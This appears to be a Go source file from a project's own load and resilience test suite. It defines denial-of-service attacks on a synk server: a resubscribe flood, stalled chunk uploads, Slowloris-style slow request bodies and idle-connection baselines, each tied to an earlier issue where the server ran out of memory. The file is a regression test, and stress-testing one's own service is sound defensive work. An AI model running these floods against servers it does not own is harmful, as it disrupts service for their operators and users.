package attack

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"strings"
	"sync"

	"github.com/synkhq/synk/protocol"
	"github.com/vmihailenco/msgpack/v5"
)

// ResubFlood: a room has Objects objects of ObjectSize bytes in one area;
// Conns read-only connections that never read send Subs frames each,
// removing and adding that area again (issue 15.1: each Sub queued the
// area's whole snapshot, 2.67 GB from one connection in 14 s).
type ResubFlood struct {
	Conns, Objects, ObjectSize, Subs int
}

func (a ResubFlood) Name() string {
	return fmt.Sprintf("resubscribe flood (%d conns × %d Subs)", a.Conns, a.Subs)
}

func (a ResubFlood) Setup(ctx context.Context, t *Target) error {
	w, err := dial(ctx, t.WS(), "builder", t.Token)
	if err != nil {
		return err
	}
	defer w.ws.CloseNow()
	if _, err := w.join(ctx, "flood", false); err != nil {
		return err
	}
	const field = 15 << 10 // under the 16 KiB value limit
	for i := range a.Objects {
		wr := &protocol.Write{ID: w.id(), Room: "flood", Op: protocol.OpCreate, Object: fmt.Sprintf("o%04d", i), Kind: "blob", Area: "A"}
		for f := 0; f*field < a.ObjectSize; f++ {
			v, _ := msgpack.Marshal(strings.Repeat("x", min(field, a.ObjectSize-f*field)))
			wr.Fields = append(wr.Fields, protocol.Entry{Key: fmt.Sprintf("f%d", f), Value: v})
		}
		if _, err := w.request(ctx, wr, wr.ID); err != nil {
			return err
		}
	}
	return nil
}

func (a ResubFlood) Run(ctx context.Context, t *Target) error {
	var wg sync.WaitGroup
	defer wg.Wait()
	for range a.Conns {
		p, err := dial(ctx, t.WS(), "", t.Token)
		if err != nil {
			return err
		}
		defer p.ws.CloseNow()
		if _, err := p.join(ctx, "flood", true); err != nil {
			return err
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range a.Subs { // and never read again
				sub := &protocol.Sub{ID: p.id(), Room: "flood"}
				switch i % 3 {
				case 0:
					sub.Add, sub.Remove = []string{"A"}, []string{"A"}
				case 1:
					sub.Remove = []string{"A"}
				case 2:
					sub.Add = []string{"A"}
				}
				if p.send(ctx, sub) != nil {
					return // cut: the server defended itself
				}
			}
		}()
	}
	return hold(ctx)
}

// ChunkStall: Conns uploads of a chunk announce Declared bytes, send Sent,
// and stall (issue 15.2: the server reserved the declared size up front
// and had no deadline; a few hundred got it OOM-killed).
type ChunkStall struct {
	Conns          int
	Declared, Sent int
}

func (a ChunkStall) Name() string {
	return fmt.Sprintf("stalled chunk uploads (%d × %.0f MiB declared)", a.Conns, mb(int64(a.Declared)))
}

func (a ChunkStall) Setup(context.Context, *Target) error { return nil }

func (a ChunkStall) Run(ctx context.Context, t *Target) error {
	sum := sha256.Sum256([]byte("never sent"))
	path := "/synk/stall/chunks/" + hex.EncodeToString(sum[:])
	return stall(ctx, t, a.Conns, "PUT", path, a.Declared, a.Sent)
}

// SlowBodies: Conns requests to Path send all but the last byte of a body
// of Size bytes, and stall (issue 15.4: 3,000 held 470–600 MB for minutes,
// on a server with -auth-key that had not checked their token yet).
type SlowBodies struct {
	Conns, Size int
	Path        string
}

func (a SlowBodies) Name() string {
	return fmt.Sprintf("slow bodies (%d × %d KB to %s)", a.Conns, a.Size>>10, a.Path)
}

func (a SlowBodies) Setup(context.Context, *Target) error { return nil }

func (a SlowBodies) Run(ctx context.Context, t *Target) error {
	return stall(ctx, t, a.Conns, "POST", a.Path, a.Size, a.Size-1)
}

// stall opens n connections, each sending a request with a body of
// declared bytes of which it sends sent, then holds them until ctx ends.
func stall(ctx context.Context, t *Target, n int, method, path string, declared, sent int) error {
	var d net.Dialer
	body := []byte(strings.Repeat("a", sent))
	for range n {
		c, err := d.DialContext(ctx, "tcp", t.Addr)
		if err != nil {
			return err
		}
		defer c.Close()
		if method == "" {
			continue
		}
		head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", method, path, t.Addr, declared)
		if _, err := c.Write(append([]byte(head), body...)); err != nil {
			continue // the server closed it: fine
		}
	}
	return hold(ctx)
}

// IdleConns: Conns TCP connections that send nothing: what open
// connections cost the server in themselves, to compare the others with.
type IdleConns struct{ Conns int }

func (a IdleConns) Name() string { return fmt.Sprintf("idle connections (%d)", a.Conns) }

func (a IdleConns) Setup(context.Context, *Target) error { return nil }

func (a IdleConns) Run(ctx context.Context, t *Target) error {
	return stall(ctx, t, a.Conns, "", "", 0, 0)
}
